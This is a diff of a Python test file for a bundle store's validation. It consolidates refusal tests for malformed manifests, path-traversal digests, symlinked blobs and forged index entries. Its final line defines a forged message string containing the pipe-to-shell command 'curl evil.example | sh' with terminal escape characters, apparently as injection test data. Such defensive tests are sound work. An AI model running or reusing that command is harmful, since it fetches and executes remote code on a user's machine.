@@ -61,21 +61,11 @@ CONFIGS = {
 }
 
 
-@pytest.mark.parametrize("name", CONFIGS)
-def test_config_refused_with_its_code(name: str, store: Store) -> None:
-    data, code = CONFIGS[name]
-    bundle = plant(store, data)
-    with pytest.raises(BundleError) as caught:
-        _ = bundle.manifest
-    assert caught.value.code == code
-    assert [finding.code for finding in check(bundle, "manifest")] == [code]
-
-
 MANIFESTS = {
     "schema 1": (lambda data: data.replace(b'"schemaVersion":2', b'"schemaVersion":1'), "CS-MANIFEST"),
     "config digest": (lambda data: data.replace(b'"digest":"sha256:', b'"digest":"sha256:/'), "CS-MANIFEST"),
     "another artifact": (lambda data: data.replace(b"coldstart.bundle", b"example.bundle"), "CS-MANIFEST"),
-    "too large": (lambda data: data + b" " * LIMITS.manifest_bytes, "CS-SIZE"),
+    "too large manifest": (lambda data: data + b" " * LIMITS.manifest_bytes, "CS-SIZE"),
     "a type twice": (_layers(_LAYER, _LAYER), "CS-SECTION-TABLE"),
     "too many sections": (_layers(*[_LAYER] * 65), "CS-SIZE"),
     "a digest that is a path": (_layers(_LAYER | {"digest": "sha256:../../x"}), "CS-MANIFEST"),
@@ -85,20 +75,21 @@ MANIFESTS = {
 }
 
 
-@pytest.mark.parametrize("name", MANIFESTS)
-def test_manifest_refused_with_its_code(name: str, store: Store) -> None:
-    change, code = MANIFESTS[name]
-    bundle = plant(store, canonical.serialize(config()), change)
+@pytest.mark.parametrize("name", [*CONFIGS, *MANIFESTS])
+def test_document_refused_with_its_code(name: str, store: Store) -> None:
+    data, code = CONFIGS.get(name, (_config(), ""))
+    change, code = MANIFESTS.get(name, (bytes, code))
+    bundle = plant(store, data, change)
     with pytest.raises(BundleError) as caught:
         _ = bundle.manifest
     assert caught.value.code == code
+    assert [finding.code for finding in check(bundle, "manifest")] == [code]
 
 
 def test_tree_passed_off_as_another_media_type(store: Store, tmp_path: Path) -> None:
     bundle = forge(store, b"x", "compile", media_type="application/vnd.coldstart.section.compile.v1+json")
-    with pytest.raises(BundleError) as caught:
+    with pytest.raises(BundleError, match="CS-SECTION-UNSUPPORTED: "):
         bundle.extract_section("compile", tmp_path / "out", trust=accept_any)
-    assert caught.value.code == "CS-SECTION-UNSUPPORTED"
 
 
 def test_blob_that_is_a_link(store: Store, tmp_path: Path) -> None:
@@ -106,9 +97,8 @@ def test_blob_that_is_a_link(store: Store, tmp_path: Path) -> None:
     path = blob_path(store.root, bundle.find_readable_section("kv").digest)
     path.rename(tmp_path / "elsewhere")
     path.symlink_to(tmp_path / "elsewhere")
-    with pytest.raises(BundleError) as caught:
+    with pytest.raises(BundleError, match="CS-LINK: "):
         bundle.read_json("kv")
-    assert caught.value.code == "CS-LINK"
 
 
 def test_layer_that_is_no_section_is_reported_and_not_read(store: Store) -> None:
@@ -142,9 +132,8 @@ def test_index_that_names_another_key(store: Store, tmp_path: Path) -> None:
     index = store.root / oci.INDEX_FILE
     index.write_text(index.read_text().replace(bundle.key.digest, f"sha256:{'1' * 64}"))
     assert [finding.code for finding in check(store.list_bundles()[0], "manifest")] == ["CS-INDEX"]
-    with pytest.raises(BundleError) as caught:
+    with pytest.raises(BundleError, match="CS-INDEX: "):
         store.list_bundles()[0].read_json("kv")
-    assert caught.value.code == "CS-INDEX"
 
 
 FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
